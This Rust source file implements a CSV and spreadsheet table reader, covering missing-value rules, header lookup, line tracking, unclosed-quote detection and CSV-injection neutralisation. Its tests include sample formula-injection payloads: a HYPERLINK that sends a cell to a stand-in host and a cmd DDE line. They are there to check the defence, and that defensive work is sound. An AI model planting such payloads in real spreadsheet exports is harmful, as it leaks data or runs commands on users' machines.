//! The one way tables are read: a header row naming the columns, then one record per row, every
//! cell reached by its column's name and every problem located by a [`Location`] (file, sheet,
//! line or row, column). Delimited text (CSV, tab-separated) is read here from any
//! [`std::io::Read`], streaming; workbook sheets arrive as rows of text from the adapter that
//! opened them (`framewright-interop`, which owns files and XLSX) and are read through the same
//! [`Row`]. Pure: no file is opened here, so pure crates (the catalogue CSV form) use it too.
//!
//! # Missing values — the one rule
//!
//! A cell is **missing** when it is empty or holds only whitespace ([`is_missing`]); a missing
//! cell reads as `None` from [`Row::get`], and [`Row::required`] refuses it naming the line and
//! column. In cells that hold an *answer or a measurement* (statistics tables, rating sheets) the
//! usual "no answer" markers also mean missing: `NA`, `N/A`, `NaN`, `DK`, `don't know`
//! ([`is_missing_answer`], [`MISSING_ANSWERS`]); `0` is a value, never missing. A column that a
//! reader needs but the header lacks is an error naming the column and listing the header
//! ([`Header::require`]). Blank rows (every cell missing) are skipped.

use std::collections::HashMap;
use std::io::Read;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU8, AtomicU64, Ordering};

use crate::location::Location;

/// A problem in a table, with where it is.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{at}: {message}")]
pub struct TableError {
    /// Where.
    pub at: Location,
    /// What is wrong and how to fix it.
    pub message: String,
}

impl TableError {
    /// An error at `at`.
    pub fn new(at: Location, message: impl Into<String>) -> TableError {
        TableError {
            at,
            message: message.into(),
        }
    }
}

/// The "no answer" markers that mean missing in answer and measurement cells (compared without
/// regard to case or surrounding spaces).
pub const MISSING_ANSWERS: &[&str] = &[
    "na",
    "n/a",
    "nan",
    "dk",
    "don't know",
    "dont know",
    "don\u{2019}t know",
];

/// The first characters that make a spreadsheet program read a CSV cell as a formula (OWASP,
/// "CSV injection"): `=`, `+`, `-`, `@`, tab and carriage return.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether [`restore_formula`] would take a quote off `cell`: it starts with a single quote
/// followed by a formula start or another quote.
fn is_neutralised(cell: &str) -> bool {
    cell.strip_prefix('\'')
        .and_then(|rest| rest.chars().next())
        .is_some_and(|c| c == '\'' || FORMULA_STARTS.contains(&c))
}

/// A cell as a CSV export writes it: a cell that a spreadsheet would run as a formula gets a
/// single quote in front (`=HYPERLINK(…)` → `'=HYPERLINK(…)`, shown as text), and so does a
/// cell that already starts with a quote followed by a formula start or a quote (`'=x` →
/// `''=x`), so that [`restore_formula`] gives back exactly what was written. Every other cell
/// is unchanged.
pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula = cell
        .chars()
        .next()
        .is_some_and(|c| FORMULA_STARTS.contains(&c));
    if starts_formula || is_neutralised(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as a CSV import reads it: the quote [`neutralise_formula`] put in front is taken off
/// (`'=HYPERLINK(…)` → `=HYPERLINK(…)`, `''=x` → `'=x`); a cell whose quote is followed by
/// anything else (`'tis`) is unchanged.
pub fn restore_formula(cell: &str) -> &str {
    if is_neutralised(cell) {
        &cell[1..]
    } else {
        cell
    }
}

/// Whether a cell is missing: empty or whitespace only.
pub fn is_missing(cell: &str) -> bool {
    cell.trim().is_empty()
}

/// Whether an answer or measurement cell is missing: [`is_missing`], or one of
/// [`MISSING_ANSWERS`].
pub fn is_missing_answer(cell: &str) -> bool {
    let t = cell.trim();
    t.is_empty() || MISSING_ANSWERS.iter().any(|m| t.eq_ignore_ascii_case(m))
}

/// The spreadsheet letter of a 0-based column (`A`, …, `Z`, `AA`, …).
pub fn column_letter(index: usize) -> String {
    let mut n = index + 1;
    let mut letters = Vec::new();
    while n > 0 {
        let rem = (n - 1) % 26;
        letters.push(b'A' + rem as u8);
        n = (n - 1) / 26;
    }
    letters.reverse();
    String::from_utf8_lossy(&letters).into_owned()
}

/// A table's header: its column names, looked up without regard to case or surrounding spaces,
/// and where the table is (file, sheet).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Header {
    file: String,
    sheet: Option<String>,
    names: Vec<String>,
    columns: HashMap<String, usize>,
}

impl Header {
    /// A header from the cells of the header row (trimmed; a byte-order mark is dropped).
    pub fn new(file: &str, sheet: Option<&str>, cells: impl IntoIterator<Item = String>) -> Self {
        let mut names = Vec::new();
        let mut columns = HashMap::new();
        for (i, cell) in cells.into_iter().enumerate() {
            let name = cell
                .trim()
                .trim_start_matches('\u{feff}')
                .trim()
                .to_string();
            if !name.is_empty() {
                columns.entry(name.to_ascii_lowercase()).or_insert(i);
            }
            names.push(name);
        }
        Header {
            file: file.to_string(),
            sheet: sheet.map(str::to_string),
            names,
            columns,
        }
    }

    /// The file, as the user named it.
    pub fn file(&self) -> &str {
        &self.file
    }

    /// The sheet, for a workbook.
    pub fn sheet(&self) -> Option<&str> {
        self.sheet.as_deref()
    }

    /// The column names in order, as written (trimmed).
    pub fn names(&self) -> &[String] {
        &self.names
    }

    /// The position of column `name`.
    pub fn index(&self, name: &str) -> Option<usize> {
        let name = name.trim();
        if name.is_empty() {
            return None;
        }
        // This runs for every cell of every row: a narrow header is searched in place (the
        // first column of that name, as in `columns`), without a copy or a hash.
        if self.names.len() <= 32 {
            return self.names.iter().position(|n| n.eq_ignore_ascii_case(name));
        }
        self.columns.get(&name.to_ascii_lowercase()).copied()
    }

    /// Whether the header has column `name`.
    pub fn has(&self, name: &str) -> bool {
        self.index(name).is_some()
    }

    /// "line" for text files, "row" for sheets: the word messages use.
    pub fn line_word(&self) -> &'static str {
        if self.sheet.is_some() { "row" } else { "line" }
    }

    /// The location of `line` (and a column), in this table's file and sheet.
    pub fn location(&self, line: Option<u64>, column: Option<&str>) -> Location {
        Location {
            file: self.file.clone(),
            sheet: self.sheet.clone(),
            line,
            column: column.map(|c| self.column_label(c)),
        }
    }

    /// How messages name column `name`: the header's spelling, with its letter in a sheet.
    fn column_label(&self, name: &str) -> String {
        match self.index(name) {
            Some(i) => {
                let written = self.names.get(i).map_or(name, String::as_str);
                if self.sheet.is_some() {
                    format!("{written} ({})", column_letter(i))
                } else {
                    written.to_string()
                }
            }
            None => name.to_string(),
        }
    }

    /// Fails, naming the first absent column and listing the header, unless every column in
    /// `names` is there.
    pub fn require(&self, names: &[&str]) -> Result<(), TableError> {
        for name in names {
            if !self.has(name) {
                let found: Vec<&str> = self
                    .names
                    .iter()
                    .filter(|n| !n.is_empty())
                    .map(String::as_str)
                    .collect();
                return Err(TableError::new(
                    self.location(Some(1), Some(name)),
                    format!(
                        "the header has no `{name}` column (found: {}); is this the right file?",
                        found.join(", ")
                    ),
                ));
            }
        }
        Ok(())
    }
}

/// The cells of one row.
#[derive(Debug, Clone, Copy)]
enum Cells<'a> {
    Record(&'a csv::StringRecord),
    Strings(&'a [String]),
}

/// One row of a table: its line (or sheet row) and its cells, reached by column name.
#[derive(Debug, Clone, Copy)]
pub struct Row<'a> {
    header: &'a Header,
    cells: Cells<'a>,
    /// 1-based line of the file (or row of the sheet) the row starts on.
    pub line: u64,
}

impl<'a> Row<'a> {
    /// A row of a sheet: `cells` in column order, on 1-based row `line`.
    pub fn of_strings(header: &'a Header, cells: &'a [String], line: u64) -> Row<'a> {
        Row {
            header,
            cells: Cells::Strings(cells),
            line,
        }
    }

    /// The header this row is read by.
    pub fn header(&self) -> &'a Header {
        self.header
    }

    /// The untrimmed text of the cell at `index` ("" past the end; without the `\r` of a CRLF
    /// line end).
    pub fn cell(&self, index: usize) -> &'a str {
        match self.cells {
            Cells::Record(record) => {
                let value = record.get(index).unwrap_or_default();
                if index + 1 == record.len() {
                    value.strip_suffix('\r').unwrap_or(value)
                } else {
                    value
                }
            }
            Cells::Strings(cells) => cells.get(index).map_or("", String::as_str),
        }
    }

    /// How many cells the row has.
    pub fn len(&self) -> usize {
        match self.cells {
            Cells::Record(record) => record.len(),
            Cells::Strings(cells) => cells.len(),
        }
    }

    /// Whether the row has no cells.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Whether every cell is missing (a blank row, skipped by readers).
    pub fn is_blank(&self) -> bool {
        (0..self.len()).all(|i| is_missing(self.cell(i)))
    }

    /// The trimmed cell of column `name`; `None` when the column is absent or the cell missing.
    pub fn get(&self, name: &str) -> Option<&'a str> {
        let value = self.cell(self.header.index(name)?).trim();
        (!is_missing(value)).then_some(value)
    }

    /// The cell of column `name`, or an error naming the line and column when it is missing.
    pub fn required(&self, name: &str) -> Result<&'a str, TableError> {
        self.get(name)
            .ok_or_else(|| self.error(name, format!("`{name}` is empty; it is required")))
    }

    /// An error at this row, column `name`.
    pub fn error(&self, name: &str, message: impl Into<String>) -> TableError {
        TableError::new(self.header.location(Some(self.line), Some(name)), message)
    }

    /// The location of this row (no column).
    pub fn location(&self) -> Location {
        self.header.location(Some(self.line), None)
    }
}

/// How a delimited file quotes its cells.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Quoting {
    /// RFC 4180 quotes (`"a, b"`, `""` inside): CSV.
    Csv,
    /// No quoting at all: tab-separated files (O*NET) whose text may contain `"`.
    None,
}

/// Delimited text read as a stream of [`Row`]s. Lines are counted right for Windows line ends
/// too: records end at `\n` only and [`Row::cell`] drops the `\r`.
pub struct TextTable<R: Read> {
    reader: csv::Reader<Tail<R>>,
    tail: Arc<TailState>,
    header: Header,
    record: csv::StringRecord,
    raw: bool,
    restore_formulas: bool,
}

impl<R: Read> TextTable<R> {
    /// Reads the header of `input`; `file` names it in errors. A CSV input should be checked
    /// with [`unclosed_quote`] first when it can be read twice: a stray quote otherwise makes
    /// the rest of the file one cell.
    pub fn new(file: &str, input: R, delimiter: u8, quoting: Quoting) -> Result<Self, TableError> {
        let tail = Arc::new(TailState::default());
        let input = Tail {
            inner: input,
            state: Arc::clone(&tail),
        };
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .quoting(quoting == Quoting::Csv)
            .terminator(csv::Terminator::Any(b'\n'))
            .flexible(true)
            .from_reader(input);
        let empty = Header::new(file, None, Vec::new());
        let record = reader
            .headers()
            .map_err(|e| record_error(&empty, &e))?
            .clone();
        let cells = (0..record.len()).map(|i| {
            let row = Row {
                header: &empty,
                cells: Cells::Record(&record),
                line: 1,
            };
            row.cell(i).to_string()
        });
        let header = Header::new(file, None, cells.collect::<Vec<_>>());
        Ok(TextTable {
            reader,
            tail,
            header,
            record: csv::StringRecord::new(),
            raw: false,
            restore_formulas: false,
        })
    }

    /// The header.
    pub fn header(&self) -> &Header {
        &self.header
    }

    /// Returns every row that is not an empty line: rows of any length (the caller reports
    /// them in its own terms) and rows whose cells are all missing (`,,`: in a statistics table
    /// a respondent who answered nothing is still a respondent).
    #[must_use]
    pub fn raw(mut self) -> Self {
        self.raw = true;
        self
    }

    /// Takes off the quote a CSV export put in front of cells a spreadsheet would run as
    /// formulas (see [`restore_formula`]), for files that Framewright's CSV exports wrote.
    #[must_use]
    pub fn restore_formulas(mut self) -> Self {
        self.restore_formulas = true;
        self
    }

    /// How far into the input the reader is, in bytes (for progress).
    pub fn byte_position(&self) -> u64 {
        self.reader.position().byte()
    }

    /// The next row that is not blank (blank lines are skipped, even a lone `\r`), or `None` at
    /// the end. A row with more or fewer cells than the header, or a cell that is not UTF-8, is an error naming the line (and column).
    pub fn next_row(&mut self) -> Result<Option<Row<'_>>, TableError> {
        loop {
            if !self
                .reader
                .read_record(&mut self.record)
                .map_err(|e| record_error(&self.header, &e))?
            {
                return Ok(None);
            }
            let empty_line = self.record.len() <= 1 || !self.raw;
            if !(empty_line && self.record.iter().all(is_missing)) {
                break;
            }
        }
        let line = self.record_line();
        if self.restore_formulas && self.record.iter().any(is_neutralised) {
            self.record = self.record.iter().map(restore_formula).collect();
        }
        let expected = self.header.names.len();
        if !self.raw && self.record.len() != expected {
            return Err(TableError::new(
                Location::at(self.header.file(), Some(line), None),
                format!(
                    "this row has {} cells but the header has {expected}; check for a missing or extra separator, or a quote that is not closed",
                    self.record.len()
                ),
            ));
        }
        Ok(Some(Row {
            header: &self.header,
            cells: Cells::Record(&self.record),
            line,
        }))
    }
}

impl<R: Read> TextTable<R> {
    /// The line the record just read starts on. The csv reader's own record position counts
    /// the blank lines before a record as part of it, so the line is worked out from where the
    /// record ends instead: the line after its line end, less the line breaks inside its cells.
    fn record_line(&self) -> u64 {
        let position = self.reader.position();
        let end = position.line();
        let last = if self.tail.ends_without_line_break_at(position.byte()) {
            end
        } else {
            end.saturating_sub(1)
        };
        let inside: u64 = self
            .record
            .iter()
            .map(|cell| cell.bytes().filter(|b| *b == b'\n').count() as u64)
            .sum();
        last.saturating_sub(inside).max(1)
    }
}

/// What the input has shown of its end: how many bytes were read, the last of them, and
/// whether the end was reached (a last record without a line break ends there).
#[derive(Debug, Default)]
struct TailState {
    read: AtomicU64,
    last: AtomicU8,
    eof: AtomicBool,
}

impl TailState {
    fn ends_without_line_break_at(&self, byte: u64) -> bool {
        self.eof.load(Ordering::Relaxed)
            && self.read.load(Ordering::Relaxed) == byte
            && self.last.load(Ordering::Relaxed) != b'\n'
    }
}

/// The input, watched by a [`TailState`].
struct Tail<R> {
    inner: R,
    state: Arc<TailState>,
}

impl<R: Read> Read for Tail<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        if n == 0 {
            self.state.eof.store(true, Ordering::Relaxed);
        } else {
            self.state.read.fetch_add(n as u64, Ordering::Relaxed);
            self.state.last.store(buf[n - 1], Ordering::Relaxed);
        }
        Ok(n)
    }
}

fn record_error(header: &Header, error: &csv::Error) -> TableError {
    let line = error.position().map(csv::Position::line);
    let at = |column: Option<&str>| Location {
        file: header.file.clone(),
        sheet: None,
        line,
        column: column.map(str::to_string),
    };
    match error.kind() {
        csv::ErrorKind::Utf8 { err, .. } => {
            let column = header.names.get(err.field()).cloned();
            TableError::new(
                at(column.as_deref()),
                "this cell is not UTF-8 text (the file may be saved as Windows-1252 or Latin-1); save or export it as UTF-8 and import again",
            )
        }
        csv::ErrorKind::Io(e) => {
            TableError::new(at(None), format!("the file could not be read: {e}"))
        }
        _ => TableError::new(
            at(None),
            format!("the file could not be read as delimited text: {error}"),
        ),
    }
}

/// The error for a quoted cell that opens on `line` and is never closed.
pub fn unclosed_quote_error(file: &str, line: u64) -> TableError {
    TableError::new(
        Location::at(file, Some(line), None),
        "a quoted cell that starts on this line is never closed; add the closing quote (\") or remove the opening one",
    )
}

/// The line (1-based) on which a quoted cell opens that is never closed properly, if any: a
/// quote that is never closed, or one "closed" by a quote that is not followed by a separator or
/// the end of the line (which is what a missing closing quote looks like once the reader has run
/// on into the next row). The csv reader would otherwise read on without complaint.
pub fn unclosed_quote(mut input: impl Read, delimiter: u8) -> std::io::Result<Option<u64>> {
    #[derive(Clone, Copy, PartialEq)]
    enum State {
        FieldStart,
        Unquoted,
        Quoted,
        AfterQuote,
    }
    let mut line = 1u64;
    let mut opened_on = 0u64;
    let mut state = State::FieldStart;
    let mut buffer = vec![0u8; 1 << 16];
    loop {
        let n = input.read(&mut buffer)?;
        if n == 0 {
            break;
        }
        for &b in &buffer[..n] {
            let ends_field = b == delimiter || b == b'\n' || b == b'\r';
            state = match state {
                State::FieldStart if b == b'"' => {
                    opened_on = line;
                    State::Quoted
                }
                State::FieldStart | State::Unquoted => {
                    if ends_field {
                        State::FieldStart
                    } else {
                        State::Unquoted
                    }
                }
                State::Quoted if b == b'"' => State::AfterQuote,
                State::Quoted => State::Quoted,
                State::AfterQuote if b == b'"' => State::Quoted,
                State::AfterQuote if ends_field => State::FieldStart,
                State::AfterQuote => return Ok(Some(opened_on)),
            };
            if b == b'\n' {
                line += 1;
            }
        }
    }
    Ok((state == State::Quoted).then_some(opened_on))
}

impl<'b> TextTable<&'b [u8]> {
    /// CSV text held in memory (a byte-order mark is allowed), its quotes checked first.
    pub fn from_csv_bytes(file: &str, bytes: &'b [u8]) -> Result<Self, TableError> {
        if let Ok(Some(line)) = unclosed_quote(bytes, b',') {
            return Err(unclosed_quote_error(file, line));
        }
        TextTable::new(file, bytes, b',', Quoting::Csv)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_restored_exactly() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted",
            "''",
            "'''x",
            "'tis",
            "'",
            "plain",
            "",
        ] {
            let written = neutralise_formula(cell);
            assert!(
                !written.starts_with(FORMULA_STARTS),
                "{cell:?} was written as {written:?}"
            );
            assert_eq!(restore_formula(&written), cell, "{cell:?}");
        }
        assert_eq!(neutralise_formula("=1"), "'=1");
        assert_eq!(neutralise_formula("'=1"), "''=1");
        assert_eq!(neutralise_formula("'tis"), "'tis");
        assert_eq!(restore_formula("'tis"), "'tis");
    }

    #[test]
    fn csv_tables_restore_neutralised_cells_only_when_asked() {
        let text = b"id,name\na,'=1\n";
        let mut plain = TextTable::from_csv_bytes("a.csv", text).unwrap();
        assert_eq!(plain.next_row().unwrap().unwrap().cell(1), "'=1");
        let mut restored = TextTable::from_csv_bytes("a.csv", text)
            .unwrap()
            .restore_formulas();
        let row = restored.next_row().unwrap().unwrap();
        assert_eq!(row.cell(1), "=1");
        assert_eq!(row.line, 2);
    }

    #[test]
    fn missing_is_blank_and_answers_know_the_markers() {
        assert!(is_missing("  "));
        assert!(!is_missing("NA"));
        assert!(is_missing_answer(" n/a "));
        assert!(is_missing_answer("Don't know"));
        assert!(!is_missing_answer("0"));
    }

    #[test]
    fn rows_are_read_by_name_with_lines() {
        let text = "\u{feff}Id, Name\r\nx,One\r\n\r\ny, \r\n";
        let mut t = TextTable::new("a.csv", text.as_bytes(), b',', Quoting::Csv).unwrap();
        assert_eq!(t.header().names(), ["Id", "Name"]);
        let r = t.next_row().unwrap().unwrap();
        assert_eq!(
            (r.line, r.get("id"), r.get("NAME")),
            (2, Some("x"), Some("One"))
        );
        let r = t.next_row().unwrap().unwrap();
        assert_eq!(r.line, 4);
        let e = r.required("name").unwrap_err();
        assert_eq!(
            e.to_string(),
            "a.csv, line 4, column `Name`: `name` is empty; it is required"
        );
        assert!(t.next_row().unwrap().is_none());
    }

    #[test]
    fn lines_after_blank_lines_are_the_rows_own() {
        for end in ["\n", "", "\r\n"] {
            let text = format!("a,b\n1,2\n\n\n3,4\n\n\"x\ny\",z{end}");
            let mut t = TextTable::new("a.csv", text.as_bytes(), b',', Quoting::Csv).unwrap();
            let lines: Vec<u64> =
                std::iter::from_fn(|| t.next_row().unwrap().map(|r| r.line)).collect();
            assert_eq!(lines, [2, 5, 7], "{end:?}");
        }
    }

    #[test]
    fn errors_name_the_place() {
        let mut t =
            TextTable::new("a.csv", &b"id,name\nx,Caf\xe9\n"[..], b',', Quoting::Csv).unwrap();
        let e = t.next_row().unwrap_err();
        assert_eq!((e.at.line, e.at.column.as_deref()), (Some(2), Some("name")));
        let t = TextTable::new("a.csv", &b"id,label\n"[..], b',', Quoting::Csv).unwrap();
        let e = t.header().require(&["id", "name"]).unwrap_err();
        assert_eq!((e.at.line, e.at.column.as_deref()), (Some(1), Some("name")));
        let header = Header::new("b.xlsx", Some("S"), vec!["id".into(), "name".into()]);
        let cells = vec!["x".to_string()];
        let e = Row::of_strings(&header, &cells, 3)
            .required("name")
            .unwrap_err();
        assert_eq!(
            e.to_string(),
            "b.xlsx, sheet `S`, row 3, column `name (B)`: `name` is empty; it is required"
        );
        assert_eq!(
            unclosed_quote(&b"a,b\n\"x,y\nz\n"[..], b',').unwrap(),
            Some(2)
        );
        assert_eq!(column_letter(27), "AB");
    }
}
